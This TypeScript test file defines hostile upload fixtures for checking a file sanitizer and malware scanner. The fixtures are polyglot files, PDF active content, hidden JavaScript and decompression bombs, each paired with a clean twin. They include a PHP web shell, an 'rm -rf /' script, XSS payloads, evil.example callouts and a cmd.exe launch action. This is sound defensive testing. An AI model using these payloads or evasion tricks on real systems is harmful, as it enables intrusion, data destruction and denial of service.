/**
 * A hundred hostile files, each with a harmless twin. The system refuses some of the files for a given reason, and accepts
 * the others as a copy without the given content.
 */

import { deflateSync } from "node:zlib";
import type { UnfitReason } from "../../shared/files/unfit.ts";
import {
  chunk,
  codings,
  comment,
  drawing,
  eicar,
  exif,
  iptc,
  jpeg,
  packedPdf,
  pdf,
  place,
  png,
  segment,
  showing,
  stream,
  xmp,
} from "./files.ts";

export interface Hostile {
  readonly name: string;
  readonly bytes: Buffer;
  /** The reason of the refusal, or the texts that the accepted copy must not contain. */
  readonly ends: { readonly refused: UnfitReason | "malware" } | { readonly without: readonly string[] };
  /** The same file without the fault, which is accepted. */
  readonly twin: Buffer;
}

const latin = (text: string): Buffer => Buffer.from(text, "latin1");
const script = "<script>alert(document.domain)</script>";
const page = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const zip = latin("PK\x03\x04\x14\0\0\0\0\0evil.txt");

/** Files by name that are refused whatever type the upload declares. */
const others: Readonly<Record<string, Buffer>> = {
  "page.html": latin(page),
  "page.jpg": latin(page),
  "page.png": latin(`\n\n  ${page}`),
  "page.pdf": latin(`<!-- %PDF-1.7 -->${page}`),
  "page with a mark of order": Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), latin(page)]),
  "page in UTF-16": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, "utf16le")]),
  "page.xhtml": latin(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  "drawing.svg": latin(svg),
  "drawing.svg.png": latin(`<?xml version="1.0"?>${svg}`),
  "style.xsl": latin('<?xml version="1.0"?><?xml-stylesheet href="data:,x"?><a/>'),
  "code.js": latin("alert(1)"),
  "code.mjs.jpg": latin("import('https://evil.example')"),
  "shell.sh": latin("#!/bin/sh\nrm -rf /\n"),
  "shell.php.jpg": latin("<?php system($_GET['c']); ?>"),
  "program.exe": latin("MZ\x90\0\x03\0\0\0"),
  "program.jpg": latin("MZ\x90\0This program cannot be run in DOS mode"),
  "program of Linux": latin("\x7fELF\x02\x01\x01\0"),
  "program of Java": Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]),
  "archive.zip": zip,
  "letter.docx": Buffer.concat([zip, latin("[Content_Types].xml")]),
  "macros.doc": Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  "letter.rtf": latin("{\\rtf1\\ansi {\\object\\objdata 01}}"),
  "archive.rar": latin("Rar!\x1a\x07\0"),
  "archive.7z": Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]),
  "picture.gif": latin("GIF89a\x01\0\x01\0/*"),
  "gif that is a script": latin("GIF89a/*\x01\0\x01\0*/=1;alert(1);"),
  "picture.webp": latin("RIFF\x24\0\0\0WEBPVP8 "),
  "picture.heic": latin("\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
  "picture.bmp": latin("BM\x36\0\0\0\0\0\0\0"),
  "bmp that is a script": latin("BM=1;alert(1);//"),
  "picture.tiff": latin("II*\0\x08\0\0\0"),
  "icon.ico": Buffer.from([0, 0, 1, 0, 1, 0]),
  "film.mp4": latin("\0\0\0\x18ftypmp42"),
  "sound.wav": latin("RIFF\x24\0\0\0WAVEfmt "),
  "page.ps": latin("%!PS-Adobe-3.0\n(%PDF-1.7) show"),
  "document behind other bytes": Buffer.concat([latin(page), pdf()]),
  "picture behind other bytes": Buffer.concat([latin("GIF89a"), jpeg()]),
  "link.url": latin("[InternetShortcut]\nURL=file:///etc/passwd"),
  "shortcut.lnk": latin("L\0\0\0\x01\x14\x02\0"),
  "message.eml": latin(`Content-Type: text/html\n\n${page}`),
  "page.mht": latin(`MIME-Version: 1.0\nContent-Type: multipart/related\n\n${page}`),
  nothing: Buffer.alloc(0),
  "one byte": Buffer.from([0xff]),
  "text.txt": latin("salaam"),
};

const wrongKind: readonly Hostile[] = Object.entries(others).map(([name, bytes], at) => ({
  name,
  bytes,
  ends: { refused: "type" },
  twin: [jpeg, png, pdf][at % 3]?.() ?? jpeg(),
}));

const refused = (name: string, reason: UnfitReason | "malware", bytes: Buffer, twin: Buffer): Hostile => ({
  name,
  bytes,
  ends: { refused: reason },
  twin,
});
const cleaned = (name: string, bytes: Buffer, twin: Buffer, ...without: string[]): Hostile => ({
  name,
  bytes,
  ends: { without },
  twin,
});

const both = [place.latitude, place.words];

/** Files that are of two types at the same time: the first type is accepted, and the content of the second type is removed. */
const polyglots: readonly Hostile[] = [
  cleaned("JPEG with a page behind it", jpeg({ after: latin(page) }), jpeg(), "<script"),
  cleaned("JPEG with an archive behind it", jpeg({ after: zip }), jpeg(), "PK\x03\x04"),
  cleaned("JPEG with a document behind it", jpeg({ after: pdf() }), jpeg(), "%PDF"),
  cleaned("JPEG with a page in its comment", jpeg({ with: [comment(page)] }), jpeg(), "<script"),
  cleaned(
    "JPEG with a script in EXIF",
    jpeg({ with: [segment(0xe1, latin(`Exif\0\0${script}`))] }),
    jpeg(),
    "<script",
  ),
  cleaned(
    "JPEG with a page in a segment of programs",
    jpeg({ with: [segment(0xec, latin(page))] }),
    jpeg(),
    "<script",
  ),
  cleaned(
    "JPEG with a page in a colour profile",
    jpeg({ with: [segment(0xe2, latin(`ICC_PROFILE\0${page}`))] }),
    jpeg(),
    "<script",
  ),
  cleaned(
    "JPEG with a page for a small picture",
    jpeg({ with: [segment(0xe0, latin(`JFIF\0\x01\x01\0\0\x01\0\x01\x10\x10${page}`))] }),
    jpeg(),
    "<script",
  ),
  cleaned("PNG with a page behind it", png({ after: latin(page) }), png(), "<script"),
  cleaned("PNG with an archive behind it", png({ after: zip }), png(), "PK\x03\x04"),
  cleaned(
    "PNG with a page as text",
    png({ with: [chunk("tEXt", latin(`Comment\0${page}`))] }),
    png(),
    "<script",
  ),
  cleaned(
    "PNG with a page in a profile",
    png({ with: [chunk("iCCP", latin(`x\0\0${page}`))] }),
    png(),
    "<script",
  ),
  cleaned("PNG with a chunk of its own", png({ with: [chunk("eviL", latin(page))] }), png(), "<script"),
  cleaned("document with an archive behind it", pdf([], { after: zip }), pdf(), "PK\x03\x04"),
  cleaned("document with a page behind it", pdf([], { after: latin(page) }), pdf(), "<script"),
];

const photo = jpeg({ with: [exif(6), xmp(), iptc()] });

/** Pictures whose metadata name the place where they were taken. */
const placed: readonly Hostile[] = [
  ...[1, 3, 6, 8].flatMap((up) =>
    (["II", "MM"] as const).map((order) =>
      cleaned(`photo turned ${up}, ${order}`, jpeg({ with: [exif(up, order)] }), jpeg(), ...both),
    ),
  ),
  cleaned("photo with XMP", jpeg({ with: [xmp()] }), jpeg(), place.latitude),
  cleaned("photo with IPTC", jpeg({ with: [iptc()] }), jpeg(), place.words),
  cleaned("photo with a comment", jpeg({ with: [comment(place.words)] }), jpeg(), place.words),
  cleaned(
    "photo with a second photo in it",
    jpeg({ with: [segment(0xe2, Buffer.concat([latin("MPF\0"), photo]))] }),
    jpeg(),
    ...both,
  ),
  cleaned("photo with another behind it", jpeg({ after: photo }), jpeg(), ...both),
  cleaned("PNG with EXIF", png({ with: [chunk("eXIf", exif(6).subarray(10))] }), png(), ...both),
  cleaned(
    "PNG with text",
    png({ with: [chunk("tEXt", latin(`Location\0${place.words}`))] }),
    png(),
    place.words,
  ),
  cleaned(
    "PNG with XMP",
    png({ with: [chunk("iTXt", latin(`XML:com.adobe.xmp\0\0\0\0\0${place.latitude}`))] }),
    png(),
    place.latitude,
  ),
  cleaned(
    "PNG with packed text",
    png({ with: [chunk("zTXt", Buffer.concat([latin("a\0\0"), deflateSync(place.words)]))] }),
    png(),
    "zTXt",
  ),
  cleaned(
    "document with XMP",
    pdf([stream("/Type /Metadata /Subtype /XML", latin(place.latitude))]),
    pdf(),
    place.latitude,
  ),
  cleaned(
    "document with packed XMP",
    pdf([stream("/Type /Metadata /Subtype /XML", latin(place.latitude), true)]),
    pdf(),
    place.latitude,
  ),
  cleaned(
    "document with its author",
    pdf([`<< /Author (${place.words}) /Title <4b68> >>`], { trailer: "/Info 4 0 R " }),
    pdf(),
    place.words,
    "4b68",
  ),
  cleaned(
    "document with a photo",
    pdf([stream("/Subtype /Image /Width 8 /Height 8 /Filter /DCTDecode", photo)], showing),
    pdf(),
    ...both,
  ),
];

const long = deflateSync(Buffer.alloc(100_000));
const bombs: readonly Hostile[] = [
  refused(
    "JPEG of four billion points",
    "too-large",
    jpeg({ width: 65_535, height: 65_535 }),
    jpeg({ width: 64, height: 64 }),
  ),
  refused(
    "PNG of four billion points",
    "too-large",
    png({ width: 65_536, height: 65_536 }),
    png({ width: 64, height: 64 }),
  ),
  refused("PNG of as many as fit", "too-large", png({ width: 2 ** 31 - 1, height: 2 ** 31 - 1 }), png()),
  refused("JPEG of no points", "broken", jpeg({ width: 0 }), jpeg()),
  refused("PNG of no points", "broken", png({ height: 0 }), png()),
  refused(
    "document that unpacks to a hundred megabytes",
    "too-large",
    pdf([stream("", Buffer.alloc(100_000_000), true)], drawing),
    pdf([stream("", Buffer.alloc(1_000), true)], drawing),
  ),
  refused("JPEG of eleven megabytes", "too-large", jpeg({ after: Buffer.alloc(11 * 1024 * 1024) }), jpeg()),
  refused(
    "document of eleven megabytes",
    "too-large",
    pdf([stream("", Buffer.alloc(11 * 1024 * 1024))]),
    pdf(),
  ),
];

const broken: readonly Hostile[] = [
  refused("half a JPEG", "broken", jpeg().subarray(0, 60), jpeg()),
  refused("JPEG without its end", "broken", jpeg().subarray(0, -2), jpeg()),
  refused("JPEG that ends in a segment", "broken", jpeg({ with: [exif(6)] }).subarray(0, 40), jpeg()),
  refused(
    "JPEG of two frames",
    "broken",
    jpeg({ with: [segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 17, 0]))] }),
    jpeg(),
  ),
  refused("JPEG without a picture", "broken", Buffer.from([0xff, 0xd8, 0xff, 0xd9]), jpeg()),
  refused("JPEG with other bytes between", "broken", jpeg({ with: [latin(page)] }), jpeg()),
  refused("half a PNG", "broken", png().subarray(0, 50), png()),
  refused(
    "PNG with a wrong checksum",
    "broken",
    Buffer.from(png().map((byte, at) => (at === 20 ? byte ^ 1 : byte))),
    png(),
  ),
  refused("PNG without a picture", "broken", png().subarray(0, 33), png()),
  refused(
    "PNG whose chunk is longer than all",
    "broken",
    Buffer.concat([png().subarray(0, 8), Buffer.from([0x7f, 255, 255, 255]), latin("IHDR")]),
    png(),
  ),
  refused("half a document", "broken", pdf().subarray(0, 100), pdf()),
  refused(
    "document with a stream that is not packed",
    "broken",
    pdf([stream("/Filter /FlateDecode", latin(page))], drawing),
    pdf([stream("/Filter /FlateDecode", long)], drawing),
  ),
];

const acts: Readonly<Record<string, Buffer>> = {
  JavaScript: pdf(["<< /S /JavaScript /JS (app.alert(1)) >>"]),
  "JavaScript by another spelling": pdf(["<< /S /J#61vaScript /J#53 (app.alert(1)) >>"]),
  "JavaScript in a packed object": pdf([
    stream("/Type /ObjStm /N 1 /First 4", latin("9 0 << /S /JavaScript /JS (x) >>"), true),
  ]),
  "what it does when opened": pdf([], { catalog: "/OpenAction 4 0 R " }),
  "what it does on pages": pdf([], { catalog: "/AA << /WC 4 0 R >> " }),
  "a program to start": pdf(["<< /S /Launch /F (cmd.exe) >>"]),
  "a file within": pdf(["<< /Type /Filespec /EF << /F 5 0 R >> /EmbeddedFiles 6 0 R >>"]),
  "a form that sends": pdf(["<< /S /SubmitForm /F (https://evil.example) >>"]),
  "a form of XFA": pdf(["<< /XFA [(template) 5 0 R] >>"]),
  "a film": pdf(["<< /Subtype /RichMedia >>"]),
  "a file in a note": pdf(["<< /Subtype /FileAttachment /FS 5 0 R >>"]),
  "a file in a note without its kind": pdf(["<< /FS << /EF << /F 5 0 R >> >> >>"]),
  "JavaScript by a reference": pdf(["<< /S 5 0 R >>", "/JavaScript"]),
};
const active: readonly Hostile[] = [
  ...Object.entries(acts).map(([name, bytes]) => refused(`document with ${name}`, "active", bytes, pdf())),
  refused("document under a password", "locked", pdf([], { trailer: "/Encrypt 4 0 R " }), pdf()),
];

const opens = {
  catalog: "/OpenAction 4 0 R ",
  objects: ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
} as const;
const hiding = (name: string, parts: Parameters<typeof packedPdf>[1]): Hostile =>
  refused(
    `document that hides JavaScript ${name}`,
    "active",
    packedPdf(opens.objects, { ...parts, catalog: opens.catalog }),
    packedPdf(["<< /S /GoTo /D [3 0 R /Fit] >>"], { ...parts, catalog: opens.catalog }),
  );

/** PDF documents with scripts that a PDF reader would run but a search in the raw bytes does not find. */
export const hidden: readonly Hostile[] = [
  hiding("in an object stream without a filter", { coding: codings.none }),
  hiding("in an object stream of hexadecimal digits", { coding: codings.hex }),
  hiding("in an object stream behind a comment", { coding: codings.flate, before: "% a comment\n" }),
];

const colour = (space: string) => ({ page: `/Resources << /ColorSpace << /C ${space} >> >> ` });
const tenfold = Array.from({ length: 9 }, (_, at) => `[${`${at + 5} 0 R `.repeat(10)}]`);
const spaces = Buffer.alloc(65_000_000, 0x20);
const twoObjects = "9 0 10 1 [[ ]]";

/** Files that make a reader compute very long or follow references that lead back to themselves. */
const snares: readonly Hostile[] = [
  refused(
    "document whose length leads back",
    "broken",
    pdf(["<< /Length 0 >>\nstream\nendstream", "<< /Length -50 >>\nstream\nendstream"]),
    pdf(["<< /Length 0 >>\nstream\nendstream", "<< /Length 0 >>\nstream\nendstream"]),
  ),
  refused(
    "document of spaces where an object should be",
    "too-large",
    pdf([`null\nendobj\nx${" ".repeat(300_000)}`]),
    pdf([`null\nendobj\n${" ".repeat(300_000)}`]),
  ),
  refused("document nested a hundred thousand deep", "broken", pdf(["[".repeat(100_000)]), pdf(["[[]]"])),
  refused(
    "document of seven hundred thousand numbers",
    "too-large",
    pdf([`[${"1 ".repeat(700_000)}]`]),
    pdf([`[${"1 ".repeat(20_000)}]`]),
  ),
  refused(
    "document with a number of a card",
    "broken",
    pdf(["[6037991234567890]"]),
    pdf(["[0.6037991234567890]"]),
  ),
  refused(
    "document whose packed objects are one",
    "broken",
    pdf([stream("/Type /ObjStm /N 2 /First 9", latin(twoObjects))]),
    pdf([stream("/Type /ObjStm /N 2 /First 10", latin("9 0 10 10 << /A 1 >><< /A 1 >>"))]),
  ),
  refused(
    "document whose pages go in circles",
    "broken",
    pdf(["<< /Type /Pages /Kids [4 0 R] >>"], { catalog: "/Pages 4 0 R " }),
    pdf(["<< /Type /Pages /Kids [3 0 R] >>"], { catalog: "/Pages 4 0 R " }),
  ),
  refused(
    "document whose arrays are a billion",
    "too-large",
    pdf([...tenfold, "[]"], { page: "/MediaBox 4 0 R " }),
    pdf(["[0 0 9 9]"], { page: "/MediaBox 4 0 R " }),
  ),
  refused(
    "document whose colours go in circles",
    "broken",
    pdf(["[/Pattern 4 0 R]"], colour("4 0 R")),
    pdf(),
  ),
  refused(
    "document of digits that unpack to spaces",
    "too-large",
    pdf([stream("/Filter [/FlateDecode /ASCIIHexDecode]", deflateSync(spaces))], drawing),
    pdf([stream("/Filter [/FlateDecode /AHx]", deflateSync(latin("20 20>")))], drawing),
  ),
  refused(
    "document with a picture of four billion points",
    "too-large",
    pdf([stream("/Subtype /Image /Width 65535 /Height 65535", latin(""), true)], showing),
    pdf([stream("/Subtype /Image /Width 8 /Height 1", latin("12345678"), true)], showing),
  ),
  refused(
    "document with an object in a picture",
    "broken",
    pdf(
      [stream("/Subtype /Image /Width 8 /Height 8 /Filter /CCITTFaxDecode", latin("endobj 1 0 obj << /AA"))],
      showing,
    ),
    pdf([stream("/Subtype /Image /Width 8 /Height 8 /Filter /CCITTFaxDecode", latin("any bytes"))], showing),
  ),
  cleaned(
    "document with properties of every object's prototype",
    pdf(["<< /S /URI /URI (https://evil.example) >>"], colour("[/constructor 4 0 R]")),
    pdf(),
    "constructor",
    "URI",
  ),
  cleaned(
    "document with a link to a file of the reader",
    pdf(["<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://evil.example/a) >> >>"], {
      page: "/Annots [4 0 R] ",
    }),
    pdf(),
    "evil.example",
    "Link",
  ),
];

/** Files with the EICAR test virus, which the malware scanner must detect inside any file format. */
const infected: readonly Hostile[] = [
  refused("EICAR", "malware", eicar, jpeg()),
  refused("EICAR behind a JPEG", "malware", jpeg({ after: eicar }), jpeg()),
  refused("EICAR in a PNG", "malware", png({ with: [chunk("tEXt", eicar)] }), png()),
  refused("EICAR in a document", "malware", pdf([stream("", eicar)]), pdf()),
];

export const hostileFiles: readonly Hostile[] = [
  ...wrongKind,
  ...polyglots,
  ...placed,
  ...bombs,
  ...broken,
  ...active,
  ...hidden,
  ...snares,
  ...infected,
];
